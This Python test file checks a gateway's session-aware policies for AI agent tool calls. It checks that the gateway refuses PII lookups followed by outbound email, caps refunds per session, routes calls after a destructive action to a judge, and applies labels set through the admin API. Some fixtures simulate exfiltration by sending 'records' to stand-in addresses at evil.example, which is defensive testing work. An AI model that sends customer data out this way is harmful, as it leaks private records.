"""Session-aware policy (``context.session``): the shipped session policies
(``policies/examples/session-policies``) decide real calls that only the
sequence makes dangerous.

    official SDK client, both wire eras / plain HTTP on fresh connections
        -> toolgate (2 shards, one session table shared by both)
            -> crm (JSON) and ops (SSE) SDK upstreams
            -> judge (the reviewer of test_policies_e2e)
"""

from __future__ import annotations

import shutil
import uuid
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import httpx
import pytest
from mcp.shared.exceptions import MCPError

from harness import (
    HANDSHAKE_VERSION,
    HTTP_TIMEOUT_S,
    MODERN_VERSION,
    Agent,
    UpstreamCfg,
    initialize_request,
    legacy_headers,
    modern_headers,
    modern_request,
    parse_body,
)
from test_admin_api import admin_gate  # noqa: F401  (fixture)
from test_policies_e2e import FORBIDDEN, judge, ops_upstream  # noqa: F401  (fixtures)

REPO = Path(__file__).resolve().parents[3]
SESSION_POLICIES = REPO / "policies" / "examples" / "session-policies"
TOOLS = ["crm__lookup_customer", "crm__delete_record", "ops__send_email", "ops__refund"]


def sessions_toml(policy_dir: Path, judge_url: str) -> str:
    return f"""
[tool_labels]
"crm__lookup_customer" = ["reads_pii"]
"crm__delete_record" = ["destructive"]
"ops__send_email" = ["external_send"]
"ops__refund" = ["money"]

[sessions]
distinct = ["customer_id"]

[policies]
files = ["{policy_dir}"]

[policies.judge]
url = "{judge_url}"
timeout_ms = 2000
"""


@pytest.fixture
def gate(make_gate, tmp_path, upstreams, ops_upstream, judge):
    policy_dir = tmp_path / "session-policies"
    shutil.copytree(SESSION_POLICIES, policy_dir)
    ups = [UpstreamCfg("crm", upstreams["crm"].url), UpstreamCfg("ops", ops_upstream.url)]
    agent = Agent("assistant", TOOLS)
    g = make_gate(upstream_list=ups, agents=[agent], server={"shards": 2},
                  extra_toml=sessions_toml(policy_dir, judge.url))
    g.agent = agent
    return g


def client_cm(url: str, key: str, mode: str, conversation: str | None = None):
    """The official SDK client, with a ``Toolgate-Conversation`` header when given."""
    import httpx2
    from mcp import Client
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared._httpx_utils import create_mcp_http_client

    @asynccontextmanager
    async def cm():
        headers = {"Authorization": f"Bearer {key}"}
        if conversation is not None:
            headers["Toolgate-Conversation"] = conversation
        http = create_mcp_http_client(headers=headers, timeout=httpx2.Timeout(HTTP_TIMEOUT_S, read=30.0))
        async with http:
            async with Client(streamable_http_client(url, http_client=http), mode=mode,
                              read_timeout_seconds=20.0) as client:
                yield client

    return cm()


SEND = ("ops__send_email", {"to": "drop@evil.example", "subject": "records"})


@pytest.mark.parametrize("mode", ["legacy", MODERN_VERSION])
def test_read_then_send_is_refused_and_a_fresh_session_may_send(gate, mode):
    key = gate.agent.key

    async def scenario():
        conversation = f"c-{uuid.uuid4()}" if mode == MODERN_VERSION else None
        async with client_cm(gate.url, key, mode, conversation) as client:
            await client.call_tool("crm__lookup_customer", {"customer_id": "C-1"})
            with pytest.raises(MCPError) as refused:
                await client.call_tool(*SEND)
            assert refused.value.error.code == FORBIDDEN
            # Refused again: the refusal reset nothing.
            with pytest.raises(MCPError):
                await client.call_tool(*SEND)
        # A new session (a new MCP session, or a new conversation) may send.
        fresh = f"c-{uuid.uuid4()}" if mode == MODERN_VERSION else None
        async with client_cm(gate.url, key, mode, fresh) as client:
            sent = await client.call_tool(*SEND)
            assert not sent.is_error

    anyio.run(scenario)
    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
    assert [(r["tool"], r["decision"]) for r in calls] == [
        ("crm__lookup_customer", "allow"),
        ("ops__send_email", "deny"),
        ("ops__send_email", "deny"),
        ("ops__send_email", "allow"),
    ]
    read, denied, _, allowed = calls
    # The trail alone tells the sequence: one session, what it had touched.
    assert denied["policies"] == ["toxic-flow"]
    assert denied["session"]["id"] == read["session"]["id"] != allowed["session"]["id"]
    assert denied["session"]["labels"] == ["reads_pii"] and denied["session"]["calls"] == 1
    assert read["session"]["calls"] == 0 and allowed["session"]["labels"] == []


def test_the_sixth_refund_of_a_session_is_refused_across_connections_and_shards(gate):
    """Stateless-era calls, each on a connection of its own, so they land on
    both shards: one session all the same."""
    key = gate.agent.key
    conversation = f"c-{uuid.uuid4()}"

    def call(tool: str, args: dict) -> httpx.Response:
        headers = modern_headers("tools/call", tool, key) | {"Toolgate-Conversation": conversation}
        with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:  # a fresh connection per call
            return http.post(gate.url, json=modern_request("tools/call", {"name": tool, "arguments": args}),
                             headers=headers)

    for i in range(12):
        assert call("crm__lookup_customer", {"customer_id": f"C-{i % 3}"}).status_code == 200
    statuses = [call("ops__refund", {"order_id": f"o-{i}", "amount": 5}).status_code for i in range(6)]
    assert statuses == [200] * 5 + [403], statuses
    # Another conversation of the same agent has its own count.
    other = modern_headers("tools/call", "ops__refund", key) | {"Toolgate-Conversation": "another"}
    r = httpx.post(gate.url, json=modern_request("tools/call", {"name": "ops__refund",
                                                                "arguments": {"order_id": "o-x", "amount": 5}}),
                   headers=other, timeout=HTTP_TIMEOUT_S)
    assert r.status_code == 200, r.text

    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"][:18]
    assert len({r["session"]["id"] for r in calls}) == 1
    assert {r["shard"] for r in calls} == {0, 1}, "every call landed on one shard"
    last = calls[-1]
    assert last["policies"] == ["money-per-session"]
    assert last["session"]["label_calls"] == {"reads_pii": 12, "money": 5}
    assert last["session"]["distinct_last_hour"] == {"customer_id": 3}


def test_a_handshake_session_spans_connections(gate):
    """One ``Mcp-Session-Id`` used over fresh connections is one session."""
    key = gate.agent.key
    with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:
        init = http.post(gate.url, json=initialize_request(), headers=legacy_headers(key))
        assert init.status_code == 200
        sid = init.headers["mcp-session-id"]
    headers = legacy_headers(key, sid, HANDSHAKE_VERSION)

    def call(tool: str, args: dict, id: int) -> dict:
        with httpx.Client(timeout=HTTP_TIMEOUT_S) as http:
            r = http.post(gate.url, json={"jsonrpc": "2.0", "id": id, "method": "tools/call",
                                          "params": {"name": tool, "arguments": args}}, headers=headers)
            return parse_body(r)

    # Each fresh connection lands on a shard by the kernel's hash of its
    # address: enough of them that both shards serve some (1 in 2^23 that
    # they do not).
    for i in range(24):
        assert "result" in call("crm__lookup_customer", {"customer_id": f"C-{i}"}, i)
    refused = call("ops__send_email", {"to": "x@evil.example", "subject": "s"}, 99)
    assert refused["error"]["code"] == FORBIDDEN
    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
    assert len({r["session"]["id"] for r in calls}) == 1
    assert {r["shard"] for r in calls} == {0, 1}


def test_after_a_destructive_call_the_next_goes_to_the_judge(gate, judge):
    key = gate.agent.key

    async def scenario():
        async with client_cm(gate.url, key, "legacy") as client:
            await client.call_tool("crm__delete_record", {"record_id": "r-1"})
            # The judge allows refunds of orders starting with `ok`, denies the rest.
            with pytest.raises(MCPError):
                await client.call_tool("ops__refund", {"order_id": "bad-1", "amount": 5})
            # Refused by the judge: the session still ends on the destructive call.
            ok = await client.call_tool("ops__refund", {"order_id": "ok-1", "amount": 5})
            assert not ok.is_error
            # Approved and recorded: the next call is decided as usual.
            await client.call_tool("crm__lookup_customer", {"customer_id": "C-1"})

    anyio.run(scenario)
    assert [r["arguments"]["order_id"] for r in judge.requests] == ["bad-1", "ok-1"]
    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
    assert [(r["tool"], r["reason"]) for r in calls] == [
        ("crm__delete_record", "allowed_by_policy"),
        ("ops__refund", "denied_by_judge"),
        ("ops__refund", "allowed_by_judge"),
        ("crm__lookup_customer", "allowed_by_policy"),
    ]
    assert calls[2]["session"]["last_labels"] == ["destructive"]


def test_the_demo_stops_a_read_then_send_sequence(tmp_path):
    """The commands ``toolgate demo`` prints, run as printed."""
    import json
    import subprocess

    from harness import Demo

    with Demo(tmp_path) as demo:
        lines = demo.output().splitlines()

        def run(heading: str) -> dict:
            at = next(i for i, l in enumerate(lines) if l.startswith(heading))
            command = lines[at + 1].rstrip("\\").strip() + " " + lines[at + 2].strip()
            out = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=30)
            assert out.returncode == 0, out.stderr
            return json.loads(out.stdout)

        assert "result" in run("Look up a customer as support-bot")
        refused = run("Send an e-mail as support-bot in the session")
        assert refused["error"]["code"] == FORBIDDEN, refused
        sent = run("The same e-mail in a fresh conversation")
        assert "sent to partner@example.com" in sent["result"]["content"][0]["text"], sent


def test_labels_written_through_the_admin_api_change_what_sessions_see(admin_gate, tmp_path):  # noqa: F811
    policy = tmp_path / "toxic.cedar"
    policy.write_text(
        '@id("baseline")\npermit(principal, action, resource);\n'
        '@id("toxic-flow")\nforbid(principal, action, resource) when {\n'
        '  resource.labels.contains("external_send") && context.session.labels.contains("reads_pii") };\n')
    agent = Agent("support-bot", ["crm__lookup_customer", "tickets__create_ticket"])
    gate, admin, _ = admin_gate(agents=[agent], extra_toml=f'\n[policies]\nfiles = ["{policy}"]\n')

    def sequence(conversation: str) -> list[int]:
        out = []
        for tool, args in [("crm__lookup_customer", {"customer_id": "C-1"}),
                           ("tickets__create_ticket", {"title": "export", "priority": 1})]:
            headers = modern_headers("tools/call", tool, agent.key) | {"Toolgate-Conversation": conversation}
            r = httpx.post(gate.url, json=modern_request("tools/call", {"name": tool, "arguments": args}),
                           headers=headers, timeout=HTTP_TIMEOUT_S)
            out.append(r.status_code)
        return out

    # Unlabelled, the sequence is two harmless calls.
    assert sequence("before") == [200, 200]
    for tool, labels in [("crm__lookup_customer", ["reads_pii"]), ("tickets__create_ticket", ["external_send"])]:
        r = admin.put(f"labels/{tool}", {"labels": labels})
        assert r.status_code == 200, r.text
    assert admin.get("labels/crm__lookup_customer").json()["spec"] == {"labels": ["reads_pii"]}
    # Labelled at run time: the same sequence in a new session is stopped.
    assert sequence("after") == [200, 403]
    # A label that is no identifier is refused, naming it.
    r = admin.put("labels/crm__lookup_customer", {"labels": ["reads pii"]})
    assert r.status_code in (400, 422) and "reads pii" in r.text, r.text
    denied = [r for r in gate.read_audit() if r.get("decision") == "deny" and r.get("method") == "tools/call"]
    assert [(r["tool"], r["policies"], r["session"]["labels"]) for r in denied] == [
        ("tickets__create_ticket", ["toxic-flow"], ["reads_pii"])]


def test_one_conversation_is_one_session_through_both_doors(make_gate, tmp_path, billing_api, monkeypatch):
    """A refund through `/mcp` and one through the REST door in the same
    conversation count in one session: the third is refused, whichever
    door it comes through."""
    from test_openapi_upstream import POLICY, TOOLS, billing_toml

    agent = Agent("billing-bot", TOOLS)
    extra = billing_toml(tmp_path, billing_api, monkeypatch) + '\n[tool_labels]\n"billing__createRefund" = ["money"]\n'
    gate = make_gate(upstream_list=[], agents=[agent], extra_toml=extra, start=False)
    (gate.workdir / "policy.cedar").write_text(POLICY + """
@id("two-refunds-per-session")
forbid(principal, action, resource)
when { resource.labels.contains("money") && context.session.label_calls.money >= 2 };
""")
    gate.start()
    refund = {"invoice_id": "inv-1", "amount": 50}

    def mcp(conversation: str) -> int:
        headers = modern_headers("tools/call", "billing__createRefund", agent.key) | {"Toolgate-Conversation": conversation}
        return httpx.post(gate.url, json=modern_request("tools/call", {"name": "billing__createRefund", "arguments": refund}),
                          headers=headers, timeout=HTTP_TIMEOUT_S).status_code

    def rest(conversation: str) -> int:
        return httpx.post(f"{gate.base}/rest/billing/refunds", json=refund, timeout=HTTP_TIMEOUT_S,
                          headers={"Authorization": f"Bearer {agent.key}", "Toolgate-Conversation": conversation}).status_code

    assert [mcp("c-1"), rest("c-1"), rest("c-1"), mcp("c-1")] == [200, 200, 403, 403]
    assert rest("c-2") == 200, "another conversation has its own count"
    calls = [r for r in gate.read_audit() if r.get("method") == "tools/call"]
    assert len({r["session"]["id"] for r in calls[:4]}) == 1
    assert [r.get("door", "mcp") for r in calls[:4]] == ["mcp", "rest", "rest", "mcp"]
    assert calls[2]["policies"] == ["two-refunds-per-session"]
